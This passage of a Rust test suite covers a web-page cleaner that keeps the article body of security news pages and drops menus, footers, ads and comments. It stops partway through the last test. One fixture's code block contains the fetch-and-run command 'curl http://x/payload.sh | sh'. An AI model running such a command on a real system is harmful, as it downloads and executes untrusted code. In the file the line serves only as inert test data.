use super::*;

const NEWS_PAGE: &str = "\
# Police Seize Botnet Servers in Three Countries

#1 Trusted Security News

[![Logo](data:image/png;base64...)](/)

[** Subscribe](#email-outer)

* [Home](/)
* [Data Breaches](/search/label/data%20breach)
* [Webinars](/p/webinars.html)

Reach out to get featured—contact us to send your exclusive story idea, research, hacks, or ask us a question.

# [Police Seize Botnet Servers in Three Countries](https://news.example/2024/12/botnet.html)

**Dec 02, 2024**Jane WriterBotnet / Law Enforcement

Police in three countries seized servers used by a large botnet that rented out hijacked home routers to criminals.

**

The operation took two years, investigators said.

\"We followed the money,\" one of them told reporters in a briefing on Monday.

[![](data:image/svg+xml;base64...)](#link_share)

The botnet's operators face charges of fraud and computer intrusion in two of the countries involved.

Found this article interesting? Follow us on Twitter and LinkedIn to read more exclusive content we post.

SHARE

[**Share on Facebook](#link_share) [**Share on Twitter](#link_share)

[botnet](https://news.example/search/label/botnet)[Law Enforcement](https://news.example/search/label/law)

Trending News

[Another story](https://news.example/2024/12/other.html)
";

fn no_rules() -> SourceRules {
    SourceRules::default()
}

/// Asserts that every one of `texts` is on the cleaned page.
fn assert_kept(c: &Cleaned, texts: &[&str]) {
    for kept in texts {
        assert!(c.markdown.contains(kept), "{kept} went:\n{}", c.markdown);
    }
}

/// Asserts that none of `texts` is on the cleaned page.
fn assert_gone(c: &Cleaned, texts: &[&str]) {
    for gone in texts {
        assert!(!c.markdown.contains(gone), "{gone} stayed:\n{}", c.markdown);
    }
}

#[test]
fn keeps_the_story_and_drops_the_page_around_it() {
    let c = clean(
        NEWS_PAGE,
        "Police Seize Botnet Servers in Three Countries",
        &no_rules(),
    );
    assert_eq!(c.kept_original, None);
    assert_eq!(
        c.markdown,
        "Police in three countries seized servers used by a large botnet that rented out hijacked home routers to criminals.\n\n\
         The operation took two years, investigators said.\n\n\
         \"We followed the money,\" one of them told reporters in a briefing on Monday.\n\n\
         The botnet's operators face charges of fraud and computer intrusion in two of the countries involved.\n"
    );
    let reasons: Vec<&str> = c.removals.iter().map(|r| r.reason.as_str()).collect();
    assert_eq!(reasons.first(), Some(&"site chrome before the article"));
    assert!(reasons.contains(&"page footer after the article (share, tags, related, comments)"));
    assert!(
        reasons.contains(&"empty formatting (icon leftovers)"),
        "{reasons:?}"
    );
    assert!(
        reasons.contains(&"placeholder image (data: or empty URL)"),
        "{reasons:?}"
    );
    // The first removal spans the chrome up to the line before the story.
    assert_eq!((c.removals[0].first, c.removals[0].last), (1, 17));
}

#[test]
fn footer_markers_end_the_body() {
    let cases = [
        "This entry was posted on Tuesday 11th of August 2026 05:28 PM",
        "Tags: [China](https://b.example/tag/china/), [encryption](https://b.example/tag/enc/)",
        "### Comments",
        "11 Comments",
        "Post navigation",
        "Related Posts",
        "## You may also like",
        "## 12 thoughts on “T”",
    ];
    for footer in cases {
        let page = format!(
            "# T\n\nThe first paragraph of the story is long enough to count as real prose here.\n\nNo, it's not true.\n\n{footer}\n\nA commenter writes a long reply that goes on for quite a while about the story above.\n"
        );
        let c = clean(&page, "T", &no_rules());
        assert_eq!(
            c.markdown,
            "The first paragraph of the story is long enough to count as real prose here.\n\nNo, it's not true.\n",
            "{footer}"
        );
    }
}

#[test]
fn bold_lead_in_and_headings_inside_are_kept_and_code_is_untouched() {
    let page = "\
* [Home](/)

# Medusa ransomware

*Posted on January 21, 2025*

**What is the Medusa ransomware?**

Medusa is a ransomware-as-a-service platform that first came to prominence in 2023 and hits Windows.

## How it spreads

```
Share this
curl http://x/payload.sh | sh
```

It arrives through phishing emails and unpatched services, the researchers explain in detail.
";
    let c = clean(page, "Medusa ransomware", &no_rules());
    assert!(
        c.markdown
            .starts_with("**What is the Medusa ransomware?**\n\nMedusa is"),
        "{}",
        c.markdown
    );
    assert!(c.markdown.contains("## How it spreads"));
    assert!(c.markdown.contains("Share this\ncurl"), "{}", c.markdown);
    assert!(c.markdown.trim_end().ends_with("in detail."));
}

#[test]
fn a_run_of_links_with_little_after_it_ends_the_body() {
    let page = "\
# Story

The first paragraph of the story is long enough to count as real prose here.

* [**Related story number one with a long title**](https://e.org/1)
* [**Related story number two with a long title**](https://e.org/2)
* [**Related story number three with a long title**](https://e.org/3)

A publication blurb that is long enough to look like prose, about the site itself.
";
    let c = clean(page, "Story", &no_rules());
    assert_eq!(
        c.markdown,
        "The first paragraph of the story is long enough to count as real prose here.\n"
    );
}

#[test]
fn label_lines_are_not_prose() {
    assert!(!is_prose(&measure(
        "+ Date: August 2, 2021 -- 11:20 GMT (12:20 BST)"
    )));
    assert!(is_prose(&measure(
        "Update: the vendor has released a fix for the flaw today."
    )));
}

#[test]
fn widget_lines_inside_the_body_are_dropped() {
    let page = "\
# A write-up

Hi all, today I want to talk about one of my findings on a private bug bounty program.

Press enter or click to view image in full size

![]()

Advertisement

I added an email parameter to the request body and the server accepted it without any check.
";
    let c = clean(page, "A write-up", &no_rules());
    assert_eq!(
        c.markdown,
        "Hi all, today I want to talk about one of my findings on a private bug bounty program.\n\n\
         I added an email parameter to the request body and the server accepted it without any check.\n"
    );
}

#[test]
fn a_page_without_prose_is_kept_as_it_is() {
    let page = "* [Home](/)\n* [About](/about)\n\nShort line\n";
    let c = clean(page, "Nothing", &no_rules());
    assert_eq!(c.markdown, page);
    assert_eq!(
        c.kept_original.as_deref(),
        Some("no paragraph of prose found")
    );
}

#[test]
fn cleaning_that_would_drop_most_prose_keeps_the_original() {
    // The "title" heading sits before a short tail; the real story is above it.
    let story = "This is a long paragraph of the real story, with plenty of words in it to count as prose.\n\n";
    let page = format!(
        "{}# Title\n\nA trailing paragraph after the title heading with enough words in it to pass the minimum size check of twenty-five words, yes indeed, and then a few more words.\n",
        story.repeat(4)
    );
    let c = clean(&page, "Title", &no_rules());
    assert!(
        c.kept_original
            .as_deref()
            .is_some_and(|r| r.starts_with("cleaning would drop")),
        "{c:?}"
    );
    assert_eq!(c.markdown, page);
}

#[test]
fn configured_rules_win() {
    let rules = SourceRules {
        start_after: Some(Regex::new("^BEGIN$").unwrap()),
        stop_before: Some(Regex::new("^END$").unwrap()),
        drop: vec![Regex::new("^Sponsored").unwrap()],
        ..SourceRules::default()
    };
    let page = "Chrome paragraph that looks like prose because it has many many words in it.\nBEGIN\nThe story starts here and has more than enough words to be a paragraph.\nSponsored: buy our product, it is the best product you could ever buy today.\nThe story goes on with another long sentence full of words about the event.\nEND\nFooter paragraph that also looks like prose with many many words in it.\n";
    let c = clean(page, "x", &rules);
    assert_eq!(
        c.markdown,
        "The story starts here and has more than enough words to be a paragraph.\n\nThe story goes on with another long sentence full of words about the event.\n"
    );
    let missing = SourceRules {
        start_after: Some(Regex::new("^NOPE$").unwrap()),
        ..SourceRules::default()
    };
    assert!(clean(page, "x", &missing).kept_original.is_some());
}

#[test]
fn measures_nested_links_and_images() {
    let info = measure("* [![Logo](data:image/png;base64...)](/) [Home](/) and \\*more\\* text");
    assert_eq!(info.images, ["data:image/png;base64..."]);
    assert_eq!(info.links.len(), 2);
    assert_eq!(info.links[1], ("Home".to_owned(), "/".to_owned()));
    assert_eq!(info.text.trim(), "Home and *more* text");
    let info = measure("[Read more](https://e.org/a_(b) \"t\")");
    assert_eq!(info.links[0].1, "https://e.org/a_(b)");
}

#[test]
fn footer_detection() {
    for yes in [
        "Found this article interesting? Follow us",
        "SHARE",
        "Share:",
        "Trending News",
        "5 Comments",
        "Tags: a, b",
    ] {
        assert!(is_footer(yes), "{yes}");
    }
    for no in [
        "Share prices fell after the breach",
        "Related to CVE-2024-3094, the flaw",
        "Comments from the vendor were not returned",
    ] {
        assert!(!is_footer(no), "{no}");
    }
}

#[test]
fn page_tags_come_from_label_links_after_the_body_start() {
    let url = url::Url::parse("https://news.example/2024/12/botnet.html").unwrap();
    let patterns: Vec<String> = ["/search/label/", "/tag/"].map(String::from).to_vec();
    let c = clean(
        NEWS_PAGE,
        "Police Seize Botnet Servers in Three Countries",
        &no_rules(),
    );
    // The menu's "Data Breaches" label link sits above the article: not a tag.
    assert_eq!(
        tag_names(page_tags(NEWS_PAGE, c.body_start, &patterns, &url, 10)),
        ["botnet", "Law Enforcement"]
    );
    // CVE tag links are entities, not tags.
    let cve = "[CVE-2026-1234](https://news.example/tag/cve-2026-1234/) [Patch](https://news.example/tag/patch/)";
    assert_eq!(tag_names(page_tags(cve, 0, &patterns, &url, 10)), ["Patch"]);
    // Links to other hosts never count.
    let other = "[Ransomware](https://elsewhere.example/tag/ransomware/)";
    assert!(tag_names(page_tags(other, 0, &patterns, &url, 10)).is_empty());
    // A category link inside a sentence is the author's link, not a tag.
    let prose = "Threat actors used this loader before, as reported on many [occasions](https://news.example/category/loader/).\n\n[Ransomware](https://news.example/tag/ransomware/)";
    assert_eq!(
        tag_names(page_tags(prose, 0, &patterns, &url, 10)),
        ["Ransomware"]
    );
    // A block longer than the limit names people and companies: none of it
    // counts, while the short category line above it does.
    let names: String = (0..12)
        .map(|i| format!("[Name {i}](https://news.example/tag/name-{i}/) "))
        .collect();
    let page = format!("[Patches](https://news.example/tag/patches/)\n\n{names}");
    assert_eq!(
        tag_names(page_tags(&page, 0, &patterns, &url, 8)),
        ["Patches"]
    );
    assert_eq!(
        tag_names(page_tags(&page, 0, &patterns, &url, 12)).len(),
        13
    );
}

#[test]
fn plain_text_skips_code_and_markup() {
    let md = "# Head\n\nSome **bold** [link](https://e.org/) text.\n\n```\ncode here\n```\n";
    assert_eq!(plain_text(md, 100), "Head\nSome bold link text.\n");
}

#[test]
fn a_link_run_followed_by_detection_content_is_not_the_footer() {
    let page = "\
# Loader to ransomware

The intrusion began with a phishing mail that carried a link to a cloud-hosted archive with a loader.

#### Sigma

[Remote tool silent install](https://github.example/sigma/rules/a.yml)

[Registry hive dump](https://github.example/sigma/rules/b.yml)

[Service stop](https://github.example/sigma/rules/c.yml)

#### Yara

```
rule loader_dll {
  condition: uint16(0) == 0x5a4d
}
```

#### MITRE

* Spearphishing Link – T1566.002
* BITS Jobs – T1197

Share this:

[Twitter](https://twitter.com/intent/tweet?u=x)
";
    let c = clean(page, "Loader to ransomware", &no_rules());
    assert_eq!(c.kept_original, None);
    for kept in [
        "[Service stop](https://github.example/sigma/rules/c.yml)",
        "rule loader_dll {",
        "* BITS Jobs – T1197",
    ] {
        assert!(c.markdown.contains(kept), "{kept}:\n{}", c.markdown);
    }
    assert!(!c.markdown.contains("Share this"), "{}", c.markdown);
    // A link run with nothing of the article after it still ends the body.
    let related = "\
# T

The first paragraph of the story is long enough to count as real prose here.

[One](https://a.example/1)

[Two](https://a.example/2)

[Three](https://a.example/3)

Newsletter
";
    let c = clean(related, "T", &no_rules());
    assert_eq!(
        c.markdown,
        "The first paragraph of the story is long enough to count as real prose here.\n"
    );
}

#[test]
fn the_standfirst_under_the_title_is_kept() {
    let page = "\
# Diavol ransomware

### In this report we follow an intrusion from a phishing mail to domain-wide encryption.

## Information:
+ Source: Example
+ Date: 2021-12-13

## Article:

The loader arrived by mail and ran from a mounted disk image, as in earlier cases we reported.
";
    let c = clean(page, "Diavol ransomware", &no_rules());
    assert_eq!(
        c.markdown,
        "### In this report we follow an intrusion from a phishing mail to domain-wide encryption.\n\n\
         The loader arrived by mail and ran from a mounted disk image, as in earlier cases we reported.\n"
    );
}

#[test]
fn chinese_prose_is_prose_and_chrome_after_it_goes() {
    let page = "\
* [首页](https://news.example.cn/)

# 某医院遭勒索软件攻击

来源：安全新闻 作者：李明 2025-03-04

3月2日，某医院发布公告称，其部分信息系统遭到勒索软件攻击，门诊挂号服务一度中断。

医院表示已向公安机关报案，并聘请第三方安全公司开展调查，后续将及时通报进展。

关键词：勒索软件 医疗

版权声明：本文为安全新闻原创，转载请注明出处。
";
    let c = clean(page, "某医院遭勒索软件攻击", &no_rules());
    assert_eq!(c.kept_original, None);
    assert_eq!(
        c.markdown,
        "3月2日，某医院发布公告称，其部分信息系统遭到勒索软件攻击，门诊挂号服务一度中断。\n\n\
         医院表示已向公安机关报案，并聘请第三方安全公司开展调查，后续将及时通报进展。\n"
    );
}

#[test]
fn chrome_lines_open_the_footer_but_an_ad_between_paragraphs_goes_alone() {
    let page = "\
# Hospital chain confirms data theft

A regional hospital chain has confirmed that attackers stole patient records before the ransomware ran.

Learn incident response from practitioners: our six-week online course starts in June. [Enrol today](https://academy.example/ir)

The chain said it had restored most systems and was working with law enforcement on the case.

This advisory was extracted from the vendor's bulletin; the vendor's text is authoritative.

Copyright © 2025 Example Media. All rights reserved.
";
    let c = clean(page, "Hospital chain confirms data theft", &no_rules());
    assert_eq!(
        c.markdown,
        "A regional hospital chain has confirmed that attackers stole patient records before the ransomware ran.\n\n\
         The chain said it had restored most systems and was working with law enforcement on the case.\n"
    );
    let reasons: Vec<&str> = c.removals.iter().map(|r| r.reason.as_str()).collect();
    // `--explain` names what each removed line was.
    assert!(
        reasons.contains(&"event, course, webinar or sponsor ad"),
        "{reasons:?}"
    );
    assert!(
        reasons.contains(&"disclaimer (reprinted, converted or provided as is)"),
        "{reasons:?}"
    );
}

#[test]
fn related_links_written_as_bare_urls_and_leftover_labels_go() {
    let page = "\
# T

The first paragraph of the story is long enough to count as real prose here.

The second paragraph of the story is long enough to count as real prose too.

* Hotel chain resets passwords — https://news.example/story/1
* Why stuffing still works — https://news.example/story/2

Menu
";
    let c = clean(page, "T", &no_rules());
    assert_eq!(
        c.markdown,
        "The first paragraph of the story is long enough to count as real prose here.\n\n\
         The second paragraph of the story is long enough to count as real prose too.\n"
    );
    // An indicator at the end is not a leftover label.
    let iocs = "# T\n\nThe first paragraph of the story is long enough to count as real prose here.\n\nURL:\n\nhxxps://203-0-113-5[.]nip[.]io/x\n";
    assert!(clean(iocs, "T", &no_rules()).markdown.contains("hxxps://"));
}

#[test]
fn advisory_fields_and_setext_headings_above_the_first_paragraph_are_kept() {
    let page = "\
# Flaw in file-transfer server

**Published:** 2 April 2025

**Severity:** Critical

**CVE:** CVE-2025-30311

Summary
-------

A deserialisation flaw lets a remote attacker run code as the service account without logging in.
";
    let c = clean(page, "Flaw in file-transfer server", &no_rules());
    assert_eq!(
        c.markdown,
        "**Severity:** Critical\n\n**CVE:** CVE-2025-30311\n\nSummary\n-------\n\n\
         A deserialisation flaw lets a remote attacker run code as the service account without logging in.\n"
    );
}

#[test]
fn a_link_list_the_author_introduces_at_the_end_is_kept() {
    let page = "\
# T

The first paragraph of the story is long enough to count as real prose here.

Further reading:

[One vendor's notes on the patches](https://a.example/1)

[Another vendor's rundown](https://b.example/2)
";
    let c = clean(page, "T", &no_rules());
    assert!(c.markdown.contains("Further reading:"), "{}", c.markdown);
    assert!(
        c.markdown.contains("[Another vendor's rundown]"),
        "{}",
        c.markdown
    );
    // Without the author's lead-in the links are the site's.
    let bare = page.replace("Further reading:\n\n", "");
    assert!(!clean(&bare, "T", &no_rules()).markdown.contains("rundown"));
}

fn tag_names(tags: Vec<(String, usize)>) -> Vec<String> {
    tags.into_iter().map(|(t, _)| t).collect()
}

#[test]
fn bylines_share_rows_and_the_sites_boxes_go_by_their_shape_in_any_language() {
    let page = "\
[Home](https://news.example/) [Sicherheit](https://news.example/security/)

# Patch für VPN

By [Ana Ruiz](https://news.example/author/ana/) · 2. April 2025 · 4 min read

Teilen: [X](https://x.example/intent/post) [Facebook](https://www.facebook.example/sharer.php)

Der Hersteller hat am Donnerstag ein außerplanmäßiges Update für seine Gateways veröffentlicht, weil die Lücke bereits ausgenutzt wird.

**Lesen Sie auch**

[Warum VPN-Gateways beliebte Ziele sind](https://news.example/analyse/vpn/)

Anzeige

Betroffen sind alle Versionen vor 7.4.2, sofern das Portal aktiviert ist, und Administratoren sollten sofort aktualisieren.

## Quellen

[Hersteller-Hinweis](https://vendor.example/psirt/1)

[CERT-Meldung](https://cert.example/2025/1)

[Kommentare lesen (87)](https://news.example/forum/1)

## Meistgelesen

1. [Windows-Update sorgt für Bluescreens](https://news.example/a/1)
2. [Passwortmanager im Test](https://news.example/a/2)
3. [Glasfaser-Förderung gestoppt](https://news.example/a/3)
";
    let c = clean(page, "Patch für VPN", &no_rules());
    assert_gone(
        &c,
        &[
            "Ana Ruiz",
            "Teilen",
            "Lesen Sie auch",
            "beliebte Ziele",
            "Anzeige",
            "Meistgelesen",
            "Bluescreens",
        ],
    );
    assert_kept(
        &c,
        &[
            "außerplanmäßiges Update",
            "vor 7.4.2",
            "## Quellen",
            "[CERT-Meldung]",
        ],
    );
}

#[test]
fn a_last_paragraph_that_names_a_bounty_programme_is_the_story() {
    let page = "\
# 某厂商修复远程代码执行漏洞

某厂商本周发布安全更新，修复了其网关产品中的一个远程代码执行漏洞，攻击者无需认证即可利用该漏洞控制设备。

研究人员表示，该漏洞影响多个版本，建议用户尽快升级到最新版本，并检查设备日志中是否存在异常登录记录。

该漏洞最初由一名独立研究人员通过厂商的漏洞奖励计划报告，厂商在确认问题后两周内发布了补丁，并向研究人员支付了奖金。

[分享](https://x.example/share/1) [收藏](https://x.example/fav/1)

扫码关注我们的公众号
";
    let c = clean(page, "某厂商修复远程代码执行漏洞", &no_rules());
    assert!(c.markdown.contains("漏洞奖励计划报告"), "{}", c.markdown);
    assert!(!c.markdown.contains("扫码关注"), "{}", c.markdown);
}

#[test]
fn a_row_of_the_sites_tag_links_closes_the_story_and_the_comments_after_it() {
    let story = "Los investigadores detectaron una campaña que distribuye aplicaciones falsas de reparto y roba los códigos de pago de las víctimas. ".repeat(5);
    let comment = "Me pasó algo parecido la semana pasada con un mensaje que decía que mi paquete estaba retenido en la aduana y que tenía que pagar una tasa para liberarlo, por suerte no hice clic en el enlace. ";
    let page = format!(
        "# Apps falsas\n\n{story}\n\n[Golpes](https://blog.example/categoria/golpes/) [Android](https://blog.example/categoria/android/)\n\n## 2 comentarios\n\n{comment}\n\n{comment}\n"
    );
    let c = clean(&page, "Apps falsas", &no_rules());
    assert!(c.markdown.contains("roba los códigos"), "{}", c.markdown);
    assert!(!c.markdown.contains("Golpes"), "{}", c.markdown);
    assert!(!c.markdown.contains("aduana"), "{}", c.markdown);
    // Before the story has begun, the same row is the page's menu, not its end.
    let menu_first = format!(
        "# Apps falsas\n\n[Golpes](https://blog.example/categoria/golpes/) [Android](https://blog.example/categoria/android/)\n\n{story}\n"
    );
    assert!(
        clean(&menu_first, "Apps falsas", &no_rules())
            .markdown
            .contains("roba los códigos")
    );
}

#[test]
fn a_mail_archive_keeps_its_wrapped_first_line_and_ends_at_the_signature() {
    let page = "\
# libfoo 2.1 fixes a heap overflow

Date: Tue, 8 Apr 2025 17:42:10 +0200
Subject: libfoo heap overflow

libfoo 2.1, released today, fixes a heap buffer overflow in the
table parser. The bug has been assigned an identifier and affects every
program that renders untrusted input with tables enabled by default.

Upgrade to 2.1, or disable the table extension when rendering input you
do not trust, until your distribution ships the fixed package to you.

--
Jo Maintainer
libfoo maintainer

[View raw message](https://lists.example/1/raw) [[next>]](https://lists.example/2)
";
    let c = clean(page, "libfoo 2.1 fixes a heap overflow", &no_rules());
    assert!(
        c.markdown.contains("released today, fixes"),
        "{}",
        c.markdown
    );
    assert!(c.markdown.contains("do not trust"), "{}", c.markdown);
    assert!(!c.markdown.contains("Jo Maintainer"), "{}", c.markdown);
}

#[test]
fn the_sites_boxes_inside_the_story_go_and_an_advisorys_fact_table_stays() {
    let para = |what: &str| {
        format!(
            "Les chercheurs ont observé {what} dans une campagne qui vise les passerelles de messagerie des administrations régionales depuis plusieurs semaines."
        )
    };
    let page = format!(
        "\
[Accueil](https://veille.example/) [Menaces](https://veille.example/menaces/)

# Faille critique dans une passerelle

Sommaire

* [Contexte](#contexte)
* [Correctifs](#correctifs)

| Référence | Valeur |
|---|---|
| Risque | Élevé |
| CVE | CVE-2026-10001 |

## Contexte

{}

**À lire aussi :** [Une autre campagne vise les mairies du littoral](https://veille.example/menaces/mairies/)

Publicité

{}

LIRE AUSSI : [Trois failles corrigées dans la passerelle de messagerie](https://veille.example/menaces/trois/)

**Vous l'avez lu ?** [Le rançongiciel qui visait les hôpitaux de la région](https://veille.example/menaces/hopitaux/)

> **Recevez nos alertes**
> Chaque matin dans votre boîte. [S'inscrire](https://veille.example/alertes/)

**Sur le même sujet:**

* [Les passerelles de messagerie, cibles favorites](https://veille.example/dossiers/passerelles/)
* [Trois conseils pour durcir sa messagerie](https://veille.example/dossiers/conseils/)

## Correctifs

{}

> **Note:** the vendor's [advisory](https://vendor.example/psirt/1) lists every fixed build.

{}

**Mots-clés:** [passerelle](https://veille.example/mot/passerelle/) [messagerie](https://veille.example/mot/messagerie/) [CVE](https://veille.example/mot/cve/)

Merci pour ce commentaire très intéressant, je partage l'avis de l'auteur sur la gravité du problème et sur la lenteur des correctifs.
",
        para("un premier implant"),
        para("un deuxième implant"),
        para("un troisième implant"),
        para("un quatrième implant"),
    );
    let c = clean(&page, "Faille critique dans une passerelle", &no_rules());
    assert_kept(
        &c,
        &[
            "| Risque | Élevé |",
            "## Contexte",
            "premier implant",
            "deuxième implant",
            "quatrième implant",
            // A note that links to another site is the story's own.
            "lists every fixed build",
        ],
    );
    assert_gone(
        &c,
        &[
            "[Contexte](#contexte)",
            "Une autre campagne",
            "Trois failles",
            "hôpitaux de la région",
            "Publicité",
            "Recevez nos alertes",
            "Sur le même sujet",
            "cibles favorites",
            "Mots-clés",
            "Merci pour ce commentaire",
        ],
    );
}

#[test]
fn a_thread_ends_the_story_at_its_reply_buttons_and_its_comment_headers() {
    let post = "Our build server was reached through a runner nobody owned any more, and the attacker pushed a package from it before our egress rules stopped the upload.";
    let page = format!(
        "\
# Breached through a forgotten runner

{post}

{post}

[reply](https://forum.example/reply?id=1)

[anna](https://forum.example/user?id=anna) 6 hours ago

Same thing happened to us with a socket mount copied from a tutorial years ago.

[reply](https://forum.example/reply?id=2)

> [bob](https://forum.example/user?id=bob) 5 hours ago
>
> Which tutorial? We should tell its author.
>
> [reply](https://forum.example/reply?id=3)

[carl](https://forum.example/user?id=carl) 4 hours ago

Signed artifacts saved us from the very same attack last spring, worth adding.

[reply](https://forum.example/reply?id=4)
"
    );
    let c = clean(&page, "Breached through a forgotten runner", &no_rules());
    assert!(c.markdown.contains("egress rules"), "{}", c.markdown);
    assert_gone(
        &c,
        &[
            "socket mount",
            "Which tutorial",
            "Signed artifacts",
            "[reply]",
        ],
    );

    // An activity log: event headers open with the actor's linked name,
    // the report sits between the first two, facts above it are a box.
    let report = "The export endpoint returns any organisation's invoices for a sequential ID, without checking that the caller belongs to that organisation.";
    let log = format!(
        "\
# Invoice export IDOR

**Severity** High (7.7)

**Bounty** $3,000

**[kestrel](https://bounty.example/kestrel)** submitted a report to **Ledgerly**. Mar 3rd

## Summary

{report}

{report}

**[triage](https://bounty.example/triage)** changed the status to **Triaged**. Mar 4th

Thanks, reproduced and escalated to the billing team this morning, more soon.

**[ledgerly](https://bounty.example/ledgerly)** rewarded kestrel with a bounty. Mar 7th

**[kestrel](https://bounty.example/kestrel)** requested to disclose this report. Apr 2nd
"
    );
    let c = clean(&log, "Invoice export IDOR", &no_rules());
    assert!(c.markdown.contains("## Summary"), "{}", c.markdown);
    assert!(c.markdown.contains("sequential ID"), "{}", c.markdown);
    assert_gone(
        &c,
        &[
            "Bounty",
            "submitted a report",
            "reproduced and escalated",
            "rewarded",
        ],
    );
}

#[test]
fn ads_under_their_own_label_promos_with_a_button_below_and_company_boilerplate_go() {
    let para = |n: usize| {
        format!(
            "Paragraph {n} of the release explains how the carrier restored its dispatch systems after the ransomware attack, which terminals were back first, how drivers were paid in the meantime and what the company changed since then to keep it from happening again."
        )
    };
    let page = format!(
        "\
# Carrier restores dispatch after ransomware attack

{}

**Sponsor:** This issue is brought to you by an email security platform that stops phishing.

{}

Thanks for reading! Subscribe for free to get the next issue in your inbox.

[Subscribe](https://letters.example/subscribe)

{}

### About Meridian Freight Holdings, Inc.

Meridian Freight Holdings, Inc. is one of the largest truckload carriers in the region, with 4,000 drivers and 22 terminals.
",
        para(1),
        para(2),
        para(3)
    );
    let c = clean(
        &page,
        "Carrier restores dispatch after ransomware attack",
        &no_rules(),
    );
    assert_kept(&c, &["Paragraph 1", "Paragraph 2", "Paragraph 3"]);
    assert_gone(
        &c,
        &[
            "Sponsor",
            "Thanks for reading",
            "Subscribe",
            "About Meridian",
            "4,000 drivers",
        ],
    );
    // An article's own "About the vulnerability" section is the story.
    let own = format!(
        "# Gateway flaw\n\n{}\n\n## About the vulnerability\n\n{}\n",
        para(1),
        para(2)
    );
    assert!(
        clean(&own, "Gateway flaw", &no_rules())
            .markdown
            .contains("Paragraph 2")
    );
}

#[test]
fn follow_boxes_forms_paywalls_counters_banners_and_bios_go() {
    let para = |n: usize| {
        format!(
            "Paragraph {n}: the researchers traced the loader to a build server that signed every release, so the trojanised installer carried a valid signature for eleven days before anyone noticed the extra network calls it made at start-up, and the vendor has since rotated its keys and rebuilt the server from scratch."
        )
    };
    let page = format!(
        "\
# Signed installer carried a loader

{}

> **Følg oss på Telegram** [@nyheter](https://t.me/nyheter_example) for varsler.

[![Kampanje](https://cdn.site.example/ads/300x250.gif)](https://ads.site.example/click?id=9)

1.4K

Photograph: Kari Nordmann/Nyhetsbyrået

{}

Thanks for reading! Subscribe for free to receive new posts.

Type your email...

Subscribe

{}

Følg oss også på [Google News](https://news.google.com/publications/nyheter) for flere saker.

#infosec #phishing #malware

[Del på LinkedIn](https://www.linkedin.com/sharing/share-offsite/?url=https%3A%2F%2Fsite.example%2Fa)

## About the speaker

Kari Nordmann leads the incident response team at a regional bank and speaks often at events.
",
        para(1),
        para(2),
        para(3)
    );
    let c = clean(&page, "Signed installer carried a loader", &no_rules());
    assert_kept(&c, &["Paragraph 1", "Paragraph 2", "Paragraph 3"]);
    assert_gone(
        &c,
        &[
            "Telegram",
            "300x250",
            "1.4K",
            "Photograph:",
            "Thanks for reading",
            "Type your email",
            "Subscribe",
            "LinkedIn",
            "Google News",
            "#infosec",
            "About the speaker",
            "Kari Nordmann",
        ],
    );
    // A paywall's heading ends the free part.
    let paywall = format!(
        "# Signed installer carried a loader\n\n{}\n\n## Keep reading with a 7-day free trial\n\nSubscribe to keep reading this post and get seven days of access to the full archive of posts.\n",
        para(1)
    );
    assert!(
        !clean(&paywall, "Signed installer carried a loader", &no_rules())
            .markdown
            .contains("seven days of access")
    );
}

#[test]
fn a_live_blogs_share_button_of_a_few_words_under_each_post_does_not_end_the_story() {
    let update = |n: usize| {
        format!(
            "**1{n}:20 BST**\n\n### Update {n}\n\nUpdate {n}: the airline says manual check-in continues at every airport, and passengers should arrive three hours before their flight while the supplier restores its departure control systems, which it expects to take until Saturday afternoon at the earliest, according to a statement it put out at noon.\n\n[Share this update](#block-1{n}20)\n"
        )
    };
    let page = format!(
        "# Outage live\n\n{}\n{}\n{}\n[Share this article](https://x.example/share?u=news.example)\n\n## Most viewed\n\n[Other story](https://news.example/a)\n",
        update(3),
        update(2),
        update(1)
    );
    let c = clean(&page, "Outage live", &no_rules());
    assert_kept(&c, &["Update 3:", "Update 2:", "Update 1:"]);
    assert!(!c.markdown.contains("Share this"), "{}", c.markdown);
    assert!(!c.markdown.contains("Other story"), "{}", c.markdown);
    // Over the title and again under the story, it is the page's button.
    let top_and_bottom = format!(
        "[Share this story](#share)\n\n# Outage live\n\n{}\n[Share this story](#share)\n\n## From our desk\n\n- Airline shares fell six per cent in morning trading today\n- The regulator has asked the supplier for a full report\n",
        update(1).replace("[Share this update](#block-1120)\n", "")
    );
    let c = clean(&top_and_bottom, "Outage live", &no_rules());
    assert_kept(&c, &["Update 1:"]);
    assert_gone(&c, &["From our desk", "regulator"]);
    // Once, the same button closes the story.
    let once = format!(
        "# Outage live\n\n{}\n## Most viewed\n\nThe ten stories read most on the site this week, from the pensions shake-up to the quiz, with the airline's outage at number two and counting.\n",
        update(1)
    );
    let c = clean(&once, "Outage live", &no_rules());
    assert_kept(&c, &["Update 1:"]);
    assert!(!c.markdown.contains("pensions"), "{}", c.markdown);
}

#[test]
fn a_live_blogs_share_buttons_and_a_videos_chapters_do_not_end_the_story() {
    let update = |n: usize| {
        format!(
            "#### 1{n}.00 GMT\n\n##### Update {n}\n\nUpdate {n}: the payment processor says more terminals are back online, and merchants report that card payments work again in most of the affected towns this afternoon, although smaller shops using the mobile readers are still waiting for a fix.\n\n[Share](https://news.example/live/outage#block-{n})\n"
        )
    };
    let page = format!(
        "# Outage live\n\n{}\n{}\n{}\n[Share](https://news.example/live/outage#block-0)\n\nTrending\n\n[Other story](https://news.example/a)\n",
        update(3),
        update(2),
        update(1)
    );
    let c = clean(&page, "Outage live", &no_rules());
    assert_kept(&c, &["Update 3:", "Update 2:", "Update 1:"]);
    assert!(!c.markdown.contains("[Share]"), "{}", c.markdown);
    assert!(!c.markdown.contains("Other story"), "{}", c.markdown);

    let video = "\
# MDM exploit chain explained

In this video I walk through the two bugs that were chained last week to take over managed laptops, and what to check on your own server.

[0:00](https://video.example/watch?v=1&t=0s) Intro

[0:41](https://video.example/watch?v=1&t=41s) Bug one

[2:15](https://video.example/watch?v=1&t=135s) Bug two

## Transcript

0:00

hey everyone, so last week the vendor pushed an emergency patch for its MDM server, and by the time most people saw it, attackers had already chained both bugs.
";
    let c = clean(video, "MDM exploit chain explained", &no_rules());
    assert!(
        c.markdown.contains("already chained both"),
        "{}",
        c.markdown
    );
    assert!(!c.markdown.contains("\n0:00\n"), "{}", c.markdown);
}

#[test]
fn a_mail_archives_message_keeps_its_wrapped_lines_and_references_and_loses_its_sign_off() {
    // Its header's "Subject:" gives the title after a label; its first
    // paragraph is hard-wrapped, no line long enough to read as prose
    // alone; its references sit under a setext heading; its sign-off
    // sits over the signature delimiter, which ends it however few of
    // its lines read as prose.
    let page = "\
# [list] CVE-2026-1: path traversal in libfoo

From: Ann Maintainer <ann@foo.example>

